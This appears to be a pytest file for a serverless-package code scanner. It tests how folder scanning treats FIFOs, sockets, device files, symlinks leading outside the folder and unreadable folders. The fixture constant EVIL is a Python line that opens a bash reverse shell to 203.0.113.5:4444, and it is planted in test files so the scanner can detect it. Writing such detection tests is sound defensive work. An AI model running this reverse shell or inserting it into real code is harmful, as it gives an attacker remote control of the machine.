"""Folders (issue 9, item 2): special files are never opened, links never followed, and content
that cannot be scanned (a link leading outside, an unreadable folder) fails a CI gate."""

from __future__ import annotations

import os
import socket
from pathlib import Path

import pytest
from click.testing import CliRunner

from lambdawatch.cli.scan import scan
from lambdawatch.codescan.archive import Reader
from lambdawatch.codescan.folder import walk_folder
from lambdawatch.codescan.model import Severity
from lambdawatch.codescan.scanner import scan_folder

EVIL = b"import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n"


def pk(result: object) -> list[tuple[str, str, Severity, str]]:
    return sorted(
        (f.code, f.file, f.severity, f.message)  # type: ignore[attr-defined]
        for f in result.findings
        if f.code.startswith("PK")
    )  # type: ignore[attr-defined]


def test_fifo_socket_and_device_link_are_skipped_never_opened(tmp_path: Path) -> None:
    (tmp_path / "handler.py").write_bytes(EVIL)
    os.mkfifo(tmp_path / "pipe")  # opening it for reading would block forever
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(tmp_path / "sock"))
    (tmp_path / "zero").symlink_to("/dev/zero")  # reading it would never end
    try:
        result = scan_folder("t", str(tmp_path))
    finally:
        sock.close()
    assert result.errors == [
        "pipe: FIFO skipped (never opened)",
        "sock: socket skipped (never opened)",
    ]
    assert pk(result) == [
        (
            "PK003",
            "zero",
            Severity.HIGH,
            (
                "symlink to file '/dev/zero' outside "
                "the scanned folder or missing: not followed, its content is not "
                "scanned"
            ),
        )
    ]
    assert ("CS101", "handler.py") in {(f.code, f.file) for f in result.findings}
    assert result.files_scanned == 1


def outside_link_tree(tmp_path: Path) -> Path:
    root, elsewhere = tmp_path / "pkg", tmp_path / "elsewhere"
    root.mkdir()
    elsewhere.mkdir()
    (elsewhere / "shell.py").write_bytes(EVIL)
    (root / "handler.py").write_bytes(b"def handler(event, context):\n    return 1\n")
    (root / "lib").symlink_to(elsewhere, target_is_directory=True)
    return root


def test_symlinked_folder_leading_outside_is_high_and_fails_the_gate(tmp_path: Path) -> None:
    root = outside_link_tree(tmp_path)
    result = scan_folder("t", str(root))
    assert pk(result) == [
        (
            "PK003",
            "lib",
            Severity.HIGH,
            (
                f"symlink to folder "
                f"'{tmp_path / 'elsewhere'}' outside the scanned folder or missing: "
                "not followed, its content is not scanned"
            ),
        )
    ]
    run = CliRunner().invoke(scan, [str(root), "--format", "json", "--no-cache"])
    assert run.exit_code == 1  # default --fail-on high: the unscanned folder fails CI


def test_symlinked_folder_inside_is_medium_and_its_target_scanned(tmp_path: Path) -> None:
    root = tmp_path / "pkg"
    (root / "real").mkdir(parents=True)
    (root / "real" / "shell.py").write_bytes(EVIL)
    (root / "alias").symlink_to("real", target_is_directory=True)
    result = scan_folder("t", str(root))
    assert pk(result) == [
        (
            "PK003",
            "alias",
            Severity.MEDIUM,
            ("symlink to folder 'real' (not followed; scanned under its own name)"),
        )
    ]
    assert ("CS101", "real/shell.py") in {(f.code, f.file) for f in result.findings}
    assert result.files_scanned == 1


def test_plain_folder_has_no_package_finding(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "handler.py").write_bytes(b"def handler(event, context):\n    return 1\n")
    result = scan_folder("t", str(tmp_path))
    assert pk(result) == [] and result.errors == [] and result.files_scanned == 1


def test_a_folder_that_cannot_be_listed_is_a_high_finding(tmp_path: Path) -> None:
    reader = Reader()
    assert list(walk_folder(reader, str(tmp_path / "gone"))) == []
    assert [(i.meta.code, i.path, i.high, i.message) for i in reader.issues] == [
        ("PK005", ".", True, "folder unreadable (No such file or directory): not scanned")
    ]


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads a mode-000 folder anyway")
def test_unreadable_sub_folder_is_a_high_finding(tmp_path: Path) -> None:
    (tmp_path / "locked").mkdir()
    (tmp_path / "locked" / "shell.py").write_bytes(EVIL)
    os.chmod(tmp_path / "locked", 0)
    try:
        result = scan_folder("t", str(tmp_path))
    finally:
        os.chmod(tmp_path / "locked", 0o755)
    assert pk(result) == [
        ("PK005", "locked", Severity.HIGH, "folder unreadable (Permission denied): not scanned")
    ]


def test_fifo_as_the_target_is_a_usage_error_not_a_hang(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pkg.zip")
    run = CliRunner().invoke(scan, [str(tmp_path / "pkg.zip"), "--no-cache"])
    assert run.exit_code == 2
    assert "is not a regular file or folder (a FIFO, device or socket): not opened" in run.output


@pytest.mark.skipif(os.geteuid() != 0, reason="mknod of a character device needs root")
def test_character_device_in_a_folder_is_never_opened(tmp_path: Path) -> None:
    import stat

    os.mknod(tmp_path / "zero", stat.S_IFCHR | 0o600, os.makedev(1, 5))  # /dev/zero's numbers
    (tmp_path / "handler.py").write_bytes(EVIL)
    result = scan_folder("t", str(tmp_path))
    assert result.errors == ["zero: character device skipped (never opened)"]
    assert result.files_scanned == 1 and pk(result) == []
